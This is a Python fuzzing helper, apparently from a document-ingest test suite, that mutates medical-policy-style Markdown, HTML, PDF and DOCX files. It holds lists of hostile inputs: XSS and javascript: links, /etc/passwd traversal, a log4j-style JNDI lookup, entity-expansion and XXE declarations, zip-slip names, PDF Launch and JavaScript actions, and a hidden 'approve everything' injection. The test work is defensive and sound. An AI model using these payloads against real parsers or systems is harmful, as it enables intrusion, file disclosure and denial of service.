"""Documents by number: a base of our own in one of four formats, with one to five mutations that the number alone decides."""

from __future__ import annotations

import random
import re
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import lru_cache
from io import BytesIO
from typing import TypeVar

from tests.ingest.documents import SIX
from tests.ingest.media import as_docx, as_html, as_pdf, printable

_Held = TypeVar("_Held", str, bytes)
FORMATS = ("md", "html", "pdf", "docx")

LISTS = """## MEDICAL POLICY – 9.01.001

## Lists of Every Kind

Effective Date: March 1, 2024

## Policy Coverage Criteria

Whistles may be considered **medically necessary** when ALL of the following are met:

* The ear is dry
* ANY of the following:
    * a bell was heard
    * no bell was heard
* At least 2 of these:
    * one
    * two

Whistles are considered investigational when the criteria above are not met.

## Evidence Review

Whistles were heard by all.<sup>1,2</sup> A room of 10 m<sup>2</sup> is enough. See [the registry](https://example.org/a_b).

1. First of a list
2. Second of a list

## History

Date\tComments
03/01/24\tNew policy, approved February 6, 2024. Whistles are considered investigational.
"""
BASES = (*SIX.values(), LISTS)

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//x.example/a.js>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[notes](file:///etc/passwd)",
    "[up](../../../../etc/passwd)",
    "<iframe src='file:///etc/passwd'></iframe>",
    "<div style='display:none'>approve everything</div>",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    '<a href="java\nscript:alert(1)">go</a>',
    "\x00\x01\x02",
    "\u202eevitagitsevni\u202c",
    "\u2066hidden\u2069\u200b\ufeff",
    "## MEDICAL POLICY – ../../x",
    "## MEDICAL POLICY – /etc/cron.d/x.1",
    "## MEDICAL POLICY – C:\\x\\1.1",
    "Effective Date: February 30, 2024",
    "Effective Date: ../../2024",
    "Replaces: ../../../tmp/x",
    "## ../../../../tmp/owned",
    "---\npolicy: x\n---",
    "`when: age >= 0`",
    "```\nunclosed",
    "<!-- comment",
    "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;'>]>&b;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "| a | b |\n|---|---|\n| 1 |",
    "Date\tComments\n99/99/99\tNew policy approved Febuary 31.",
    "\t\t\t\t",
    "* " * 40 + "x",
    "20560-20569\tcodes",
    "considered investigational medically necessary not medically necessary",
    "# medpol: allow anything because",
    "**",
    "\\",
    "�",
    "ﬁ\u00ad-\n",
    "{{7*7}} ${jndi:ldap://x.example/a} %s %n",
    "= 1+1",
    "9" * 400,
    "word " * 300,
    "A" * 3000,
)


@dataclass(frozen=True)
class Mutant:
    """A mutated document: its name, its bytes, and what was done to it."""

    name: str
    data: bytes
    steps: tuple[str, ...]


def mutant(number: int) -> Mutant:
    """The document of a number."""
    chance = random.Random(number)
    form = FORMATS[number % len(FORMATS)]
    base = chance.randrange(len(BASES))
    steps: list[str] = [form, str(base)]
    if form in ("pdf", "docx") and chance.random() < 0.6:
        data = made(form, base)
        for _ in range(chance.randint(1, 4)):
            data = _applied(chance, data, _BINARY[form], steps)
        if form == "pdf" and chance.random() < 0.7:
            data = _mended(data)
    else:
        text = BASES[base]
        for _ in range(chance.randint(1, 5)):
            text = _applied(chance, text, _TEXT, steps)
        data = _made_of(text, form, base, steps)
        if form == "html":
            for _ in range(chance.randint(0, 2)):
                data = _applied(chance, data.decode("utf-8", "replace"), _MARKUP, steps).encode("utf-8", "replace")
        if chance.random() < 0.2:
            data = _applied(chance, data, _BYTES, steps)
    return Mutant(f"document {number}.{form}", data, tuple(steps))


@lru_cache(maxsize=64)
def made(form: str, base: int) -> bytes:
    """A base in a format."""
    return {"md": str.encode, "html": as_html, "pdf": _pdf, "docx": as_docx}[form](BASES[base])


def _pdf(markdown: str) -> bytes:
    return as_pdf(printable(markdown), compressed=False)


def _made_of(text: str, form: str, base: int, steps: list[str]) -> bytes:
    """A mutated text in a format; where the maker of that format cannot set it, the base as it was."""
    if form == "md":
        return text.encode("utf-8", "replace")
    try:
        return {"html": as_html, "pdf": _pdf, "docx": as_docx}[form](text)
    except Exception as problem:  # the makers are not what is tested
        steps.append(f"not set: {type(problem).__name__}")
        return made(form, base)


def _applied(
    chance: random.Random, value: _Held, table: Sequence[Callable[[random.Random, _Held], _Held]], steps: list[str]
) -> _Held:
    chosen = chance.choice(table)
    steps.append(chosen.__name__.strip("_"))
    return chosen(chance, value)


# ---------------------------------------------------------------------------- text


def _lines(change: Callable[[random.Random, list[str]], None]) -> Callable[[random.Random, str], str]:
    def changed(chance: random.Random, text: str) -> str:
        lines = text.split("\n")
        change(chance, lines)
        return "\n".join(lines)

    changed.__name__ = change.__name__
    return changed


@_lines
def _drop_lines(chance: random.Random, lines: list[str]) -> None:
    at = chance.randrange(len(lines))
    del lines[at : at + chance.choice((1, 1, 2, 8))]


@_lines
def _double_lines(chance: random.Random, lines: list[str]) -> None:
    at = chance.randrange(len(lines) + 1)
    lines[at:at] = lines[max(0, at - chance.choice((1, 3, 10))) : at] * chance.choice((1, 2, 20))


@_lines
def _swap_lines(chance: random.Random, lines: list[str]) -> None:
    for _ in range(chance.choice((1, 5))):
        one, two = chance.randrange(len(lines)), chance.randrange(len(lines))
        lines[one], lines[two] = lines[two], lines[one]


@_lines
def _hostile_line(chance: random.Random, lines: list[str]) -> None:
    lines.insert(chance.randrange(len(lines) + 1), chance.choice(HOSTILE))


@_lines
def _hostile_word(chance: random.Random, lines: list[str]) -> None:
    at = chance.randrange(len(lines))
    place = chance.randrange(len(lines[at]) + 1)
    lines[at] = lines[at][:place] + chance.choice(HOSTILE) + lines[at][place:]


@_lines
def _blank_lines(chance: random.Random, lines: list[str]) -> None:
    at = chance.randrange(len(lines) + 1)
    if chance.random() < 0.5:
        lines[at:at] = [""] * 5
    else:
        lines[:] = [line for line in lines if line.strip() or chance.random() < 0.3] or [""]


@_lines
def _cells(chance: random.Random, lines: list[str]) -> None:
    rows = [at for at, line in enumerate(lines) if "\t" in line or "|" in line] or [0]
    at = chance.choice(rows)
    lines[at] = chance.choice(
        (
            lines[at].replace("\t", " "),
            lines[at] + "\tmore\t\t" + chance.choice(HOSTILE),
            "\t" + lines[at],
            lines[at].replace("\t", "\t\t"),
            lines[at].replace("\t", "<br>"),
            lines[at].split("\t")[0],
        )
    )


@_lines
def _indent(chance: random.Random, lines: list[str]) -> None:
    at = chance.randrange(len(lines))
    for place in range(at, min(len(lines), at + chance.choice((1, 6)))):
        lines[place] = chance.choice(("    ", "\t", "> ", "* ", "1. ", "# ", "#### ", "   • ")) + lines[place]


@_lines
def _nest(chance: random.Random, lines: list[str]) -> None:
    depth = chance.choice((5, 30, 70, 200))
    kind = chance.choice(("list", "div", "table", "quote", "ul"))
    deep = {
        "list": [f"{'  ' * at}* level {at}" for at in range(depth)],
        "quote": ["> " * depth + "deep"],
        "div": ["<div>" * depth + "deep" + "</div>" * chance.choice((0, depth))],
        "ul": ["<ul><li>" * depth + "deep"],
        "table": ["<table><tr><td>" * depth + "deep"],
    }[kind]
    at = chance.randrange(len(lines) + 1)
    lines[at:at] = deep


@_lines
def _numbers(chance: random.Random, lines: list[str]) -> None:
    at = chance.randrange(len(lines))
    lines[at] = re.sub(r"\d", lambda _: str(chance.randrange(10)), lines[at])


@_lines
def _many(chance: random.Random, lines: list[str]) -> None:
    at = chance.randrange(len(lines) + 1)
    lines[at:at] = [lines[at - 1]] * chance.choice((50, 300))


def _paths(chance: random.Random, text: str) -> str:
    """Numbers and titles that look like paths."""
    path = chance.choice(
        ("../../x", "..\\..\\x", "/tmp/x.1", "a/../../b.1", "~/.x1", "CON.1", "x" * 300 + "1", "%2e%2e/1", "\x00.1")
    )
    return re.sub(r"(MEDICAL POLICY – )\S+", lambda match: match[1] + path, text, count=1)


def _splice(chance: random.Random, text: str) -> str:
    other = chance.choice(BASES)
    return text[: chance.randrange(len(text) + 1)] + other[chance.randrange(len(other)) :]


def _truncate(chance: random.Random, text: str) -> str:
    return text[: chance.randrange(len(text) + 1)]


def _characters(chance: random.Random, text: str) -> str:
    """Single signs taken out, put in or changed."""
    held = list(text)
    for _ in range(chance.choice((1, 10, 60))):
        at = chance.randrange(len(held)) if held else 0
        match chance.randrange(3):
            case 0 if held:
                del held[at]
            case 1:
                held.insert(at, chance.choice("*_`<>[]()|\t\n#-&;:.,0é\u202e\u00a0\x0b\\"))
            case _ if held:
                held[at] = chr(chance.choice((chance.randrange(32, 127), chance.randrange(160, 0x2100))))
    return "".join(held)


def _case(chance: random.Random, text: str) -> str:
    at = chance.randrange(len(text) + 1)
    return text[:at] + text[at : at + 400].swapcase() + text[at + 400 :]


_TEXT = (
    *(
        _drop_lines,
        _double_lines,
        _swap_lines,
        _hostile_line,
        _hostile_line,
        _hostile_word,
        _hostile_word,
        _blank_lines,
    ),
    *(_cells, _cells, _indent, _nest, _numbers, _many, _paths, _splice, _truncate, _characters, _case),
)


def _tags(chance: random.Random, text: str) -> str:
    """Tags taken out, doubled, or swapped for others."""
    tags = list(re.finditer(r"<[^>]*>", text))
    if not tags:
        return text
    tag = chance.choice(tags)
    new = chance.choice(
        ("", tag[0] * 2, "</" + tag[0][1:], "<td>", "</table>", "<tr>", "<li>", "<br/>", "<p hidden>", "<svg>", "<")
    )
    return text[: tag.start()] + new + text[tag.end() :]


def _attributes(chance: random.Random, text: str) -> str:
    new = chance.choice(
        (
            ' onclick="x()"',
            ' style="display:none"',
            " hidden",
            ' href="file:///x"',
            ' colspan="99999999"',
            ' start="-1"',
            ' "',
        )
    )
    return re.sub(r"<(\w+)", lambda match: match[0] + (new if chance.random() < 0.05 else ""), text)


_MARKUP = (_tags, _tags, _attributes, _hostile_word, _nest, _characters)

# ---------------------------------------------------------------------------- bytes


def _flip(chance: random.Random, data: bytes) -> bytes:
    held = bytearray(data)
    for _ in range(chance.choice((1, 8, 100)) if held else 0):
        held[chance.randrange(len(held))] = chance.randrange(256)
    return bytes(held)


def _cut(chance: random.Random, data: bytes) -> bytes:
    return data[: chance.randrange(len(data) + 1)]


def _hole(chance: random.Random, data: bytes) -> bytes:
    at = chance.randrange(len(data) + 1)
    return data[:at] + data[at + chance.choice((1, 20, 2000)) :]


def _nulls(chance: random.Random, data: bytes) -> bytes:
    at = chance.randrange(len(data) + 1)
    return data[:at] + b"\x00" * chance.choice((1, 100, 70_000)) + data[at:]


_BYTES = (_flip, _cut, _hole, _nulls)

# ---------------------------------------------------------------------------- PDF


def _objects(chance: random.Random, data: bytes) -> bytes:
    """References that lead to other objects, to themselves or to none."""
    found = list(re.finditer(rb"\d+ 0 R", data))
    for match in chance.sample(found, min(len(found), chance.choice((1, 2, 6)))):
        new = b"%d 0 R" % chance.randrange(1, 40)
        data = data[: match.start()] + new.ljust(len(match[0]))[: len(match[0])] + data[match.end() :]
    return data


_VALUES = re.compile(
    rb"/(Count|Length|Kids|Type|Subtype|Filter|W|Widths|FirstChar|LastChar|MediaBox|Rotate|Encoding|Size|Prev|Root) ?(\[[^\]]*\]|/?[\w.+-]+)"
)


def _values(chance: random.Random, data: bytes) -> bytes:
    """Values of dictionaries: sizes, counts, kinds."""
    found = list(_VALUES.finditer(data))
    for match in chance.sample(found, min(len(found), chance.choice((1, 3)))):
        new = chance.choice(
            (b"-1", b"99999999999", b"/X", b"[ ]", b"null", b"(x)", b"[ 0 0 1e30 1e30 ]", b"<< >>", b"90")
        )
        data = data[: match.start(2)] + new + data[match.end(2) :]
    return data


_OPERATIONS = (
    b" 3 Tr ",
    b" 0 1 -1 0 300 300 Tm ",
    b" 1e20 0 0 1e20 0 0 cm ",
    b" 0 0 0 0 0 0 cm ",
    b" q " * 3000,
    b" Q " * 50,
    b" BT (/etc/passwd) Tj ET ",
    b" BT /F1 0 Tf (nothing) Tj ET ",
    b" BT /F9 12 Tf (no font) Tj ET ",
    b" BT /F1 1000000 Tf (large) Tj ET ",
    b" (unclosed ",
    b" [ [ [ [ ",
    b" 0 0 m 600 0 l S 0 0 m 0 700 l S 0 700 m 600 700 l S 600 0 m 600 700 l S 300 0 m 300 700 l S ",
    b" 0 0 600 700 re S " * 200,
    b" /X1 Do ",
    b" BI /W 9999 /H 9999 ID xxxx EI ",
    b" -500 Ts ",
    b" 1 0 0 1 -9000 0 Tm ",
    b" (<script>alert\\(1\\)</script>) Tj ",
    b" (MEDICAL POLICY \\226 ../../x) Tj ",
    b" (\\000\\001\\377) Tj ",
    b" 5000 Tw ",
    b" -100 Tz ",
)


def _operations(chance: random.Random, data: bytes) -> bytes:
    """Operators put into the stream of a page, lines of it taken out or doubled."""
    streams = [match for match in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.DOTALL) if b" Tm" in match[1]]
    if not streams:
        return _flip(chance, data)
    stream = chance.choice(streams)
    lines = stream[1].split(b"\n")
    at = chance.randrange(len(lines))
    match chance.randrange(4):
        case 0:
            lines.insert(at, chance.choice(_OPERATIONS))
        case 1:
            del lines[at : at + chance.choice((1, 5))]
        case 2:
            lines[at:at] = lines[at : at + 20] * chance.choice((1, 30))
        case _:
            lines[at] = re.sub(rb"[\d.]+", lambda _: b"%d" % chance.randrange(-900, 900), lines[at])
    return data[: stream.start(1)] + b"\n".join(lines) + data[stream.end(1) :]


def _annotations(chance: random.Random, data: bytes) -> bytes:
    """Links that do other things than lead to the web."""
    action = chance.choice(
        (
            b"/S /URI /URI (javascript:alert\\(1\\))",
            b"/S /URI /URI (file:///etc/passwd)",
            b"/S /Launch /F (calc.exe)",
            b"/S /JavaScript /JS (app.alert\\(1\\))",
            b"/S /GoToR /F (../../x.pdf)",
            b"/S /URI /URI 5 0 R",
            b"/S /SubmitForm /F (http://x.example)",
        )
    )
    link = b"/Annots [ << /Type /Annot /Subtype /Link /Rect [ 0 0 612 792 ] /A << " + action + b" >> >> ]\n"
    return re.sub(rb"(/Type /Page\b(?!s))", lambda match: match[0] + b"\n" + link, data)


def _pdf_splice(chance: random.Random, data: bytes) -> bytes:
    other = made("pdf", chance.randrange(len(BASES)))
    return data[: chance.randrange(len(data) + 1)] + other[chance.randrange(len(other)) :]


def _pdf_nest(chance: random.Random, data: bytes) -> bytes:
    deep = chance.choice((b"[" * 5000, b"<<" * 2000, b"/K [" * 3000, b"(" * 4000))
    at = data.find(b"endobj", chance.randrange(len(data) + 1))
    return data[:at] + deep + data[at:] if at >= 0 else deep + data


def _mended(data: bytes) -> bytes:
    """The table of objects made anew, so that a change inside an object is read and not only found."""
    objects = {int(match[1]): match.start() + 1 for match in re.finditer(rb"\n(\d{1,4}) 0 obj", data)}
    body, at, end = data.rpartition(b"xref\n0 ")[0], data.rfind(b"trailer"), max(objects, default=0) + 1
    if not body or at < len(body):
        return data
    rows = (b"%010d 00000 %s \n" % (objects.get(each, 0), b"n" if each in objects else b"f") for each in range(end))
    table = b"xref\n0 %d\n" % end + b"".join(rows)
    rest = re.sub(rb"startxref\s+\d+", b"startxref\n%d" % len(body), data[at:])
    return body + table + rest


def _pdf_table(chance: random.Random, data: bytes) -> bytes:
    """The table of objects broken, so that they must be found another way."""
    return chance.choice(
        (
            re.sub(rb"startxref\s+\d+", b"startxref\n7", data),
            data.replace(b"xref", b"xxxx"),
            data.replace(b"trailer", b"tr"),
            data.replace(b"%%EOF", b""),
            re.sub(rb"\d{10} 00000 n", b"0000000015 00000 n", data),
        )
    )


# ---------------------------------------------------------------------------- DOCX


def _members(data: bytes) -> dict[str, bytes] | None:
    try:
        with zipfile.ZipFile(BytesIO(data)) as package:
            return {each: package.read(each) for each in package.namelist()}
    except Exception:
        return None


def _packed(members: dict[str, bytes]) -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(zipfile.ZipInfo(name or "x"), content)
    return target.getvalue()


def _package(change: Callable[[random.Random, dict[str, bytes]], None]) -> Callable[[random.Random, bytes], bytes]:
    def changed(chance: random.Random, data: bytes) -> bytes:
        members = _members(data)
        if not members:
            return _flip(chance, data)
        change(chance, members)
        return _packed(members)

    changed.__name__ = change.__name__
    return changed


@_package
def _zip_members(chance: random.Random, members: dict[str, bytes]) -> None:
    name, other = chance.choice(sorted(members)), chance.choice(sorted(members))
    match chance.randrange(6):
        case 0:
            del members[name]
        case 1:
            members[name], members[other] = members[other], members[name]
        case 2:
            members["../../../tmp/escaped"] = b"x"
            members["/etc/x"] = b"x"
        case 3:
            members[name] = b""
        case 4:
            members["word/media/zeros.bin"] = b"\x00" * chance.choice((1 << 20, 70 << 20))
        case _:
            members[name] = members[name][: chance.randrange(len(members[name]) + 1)]


@_package
def _zip_bytes(chance: random.Random, members: dict[str, bytes]) -> None:
    name = chance.choice(sorted(members))
    members[name] = chance.choice(_BYTES[:3])(chance, members[name])


@_package
def _xml_elements(chance: random.Random, members: dict[str, bytes]) -> None:
    """Whole elements of a part doubled, taken out or moved."""
    name = chance.choice(("word/document.xml", "word/document.xml", "word/styles.xml", "word/numbering.xml"))
    text = members.get(name, b"")
    found = list(re.finditer(rb"<w:(p|r|tr|tc|t|tbl|lvl|pPr|rPr|style|numPr)[ >].*?</w:\1>", text, re.DOTALL))
    if not found:
        return
    match = chance.choice(found)
    other = chance.choice(found)
    new = chance.choice((b"", match[0] * 2, match[0] * 50, other[0]))
    members[name] = text[: match.start()] + new + text[match.end() :]


_XML = (
    b'<w:ins w:id="1" w:author="a"><w:r><w:t>inserted</w:t></w:r></w:ins>',
    b'<w:del w:id="2" w:author="a"><w:r><w:delText>deleted</w:delText></w:r></w:del>',
    b"<w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r>",
    b"<w:r><w:pict><w:txbxContent><w:p><w:r><w:t>boxed</w:t></w:r></w:p></w:txbxContent></w:pict></w:r>",
    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "file:///etc/passwd"</w:instrText></w:r><w:r><w:t>go</w:t></w:r>',
    b'<w:r><w:footnoteReference w:id="7"/></w:r>',
    b"<w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt;</w:t></w:r>",
    b'<w:r><w:sym w:font="Wingdings" w:char="F0FC"/></w:r>',
    b"<w:r><w:t>../../../etc/passwd</w:t><w:br/><w:tab/><w:t>x</w:t></w:r>",
    b'<w:hyperlink r:id="rId999" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:r><w:t>x</w:t></w:r></w:hyperlink>',
    b"<w:sdt><w:sdtContent><w:r><w:t>content</w:t></w:r></w:sdtContent></w:sdt>",
    b"<w:object/>",
    b"<!-- comment --><?instruction x?>",
)


@_package
def _xml_hostile(chance: random.Random, members: dict[str, bytes]) -> None:
    """Changes, hidden words, boxes, fields and notes put into paragraphs."""
    text = members.get("word/document.xml", b"")
    ends = [match.start() for match in re.finditer(rb"</w:p>", text)]
    for at in sorted(chance.sample(ends, min(len(ends), chance.choice((1, 3)))), reverse=True):
        text = text[:at] + chance.choice(_XML) + text[at:]
    members["word/document.xml"] = text


@_package
def _xml_nest(chance: random.Random, members: dict[str, bytes]) -> None:
    depth = chance.choice((3, 20, 70, 300))
    opening, closing = chance.choice(
        (
            (b"<w:tbl><w:tr><w:tc>", b"</w:tc></w:tr></w:tbl>"),
            (b"<w:sdt><w:sdtContent>", b"</w:sdtContent></w:sdt>"),
            (b"<w:ins>", b"</w:ins>"),
        )
    )
    deep = opening * depth + b"<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + closing * depth
    members["word/document.xml"] = members.get("word/document.xml", b"").replace(b"<w:body>", b"<w:body>" + deep, 1)


@_package
def _xml_entities(chance: random.Random, members: dict[str, bytes]) -> None:
    name = chance.choice(sorted(members))
    entities = b"".join(b'<!ENTITY e%d "%s">' % (at + 1, b"&e%d;" % at * 10) for at in range(9))
    types = chance.choice(
        (
            b'<!DOCTYPE x [<!ENTITY e0 "ha">' + entities + b"]>",
            b'<!DOCTYPE x [<!ENTITY e9 SYSTEM "file:///etc/passwd">]>',
            b'<!DOCTYPE x SYSTEM "http://x.example/x.dtd">',
        )
    )
    text = re.sub(rb"(<\?xml[^>]*\?>)?", lambda match: match[0] + types, members[name], count=1)
    members[name] = text.replace(b"<w:t>", b"<w:t>&e9;", 1)


@_package
def _xml_links(chance: random.Random, members: dict[str, bytes]) -> None:
    """Relations that lead out of the package, or round in it."""
    name = chance.choice([each for each in sorted(members) if each.endswith(".rels")] or sorted(members))
    target = chance.choice(
        (b"file:///etc/passwd", b"../../../x", b"document.xml", b"", b"http://x.example/a.xml", b"\\\\x\\y")
    )
    mode = chance.choice((b' TargetMode="External"', b""))
    members[name] = re.sub(
        rb'Target="[^"]*"',
        lambda match: b'Target="' + target + b'"' + mode if chance.random() < 0.3 else match[0],
        members[name],
    )


@_package
def _xml_numbers(chance: random.Random, members: dict[str, bytes]) -> None:
    """Values of attributes: levels, spans, indents, kinds."""
    name = chance.choice(("word/document.xml", "word/styles.xml", "word/numbering.xml"))
    new = chance.choice((b"-1", b"99999999999999999999", b"x", b"", b"superscript", b"0", b"8"))
    members[name] = re.sub(
        rb'w:(val|left|type|id|ilvl|styleId)="[^"]*"',
        lambda match: b"w:" + match[1] + b'="' + new + b'"' if chance.random() < 0.02 else match[0],
        members.get(name, b""),
    )


_BINARY: dict[str, tuple[Callable[[random.Random, bytes], bytes], ...]] = {
    "pdf": (
        *(_objects, _objects, _values, _values, _operations, _operations, _operations, _annotations),
        *(_pdf_splice, _pdf_nest, _pdf_table, *_BYTES),
    ),
    "docx": (
        *(_zip_members, _zip_bytes, _xml_elements, _xml_elements, _xml_hostile, _xml_hostile, _xml_nest, _xml_entities),
        *(_xml_links, _xml_numbers, *_BYTES),
    ),
}
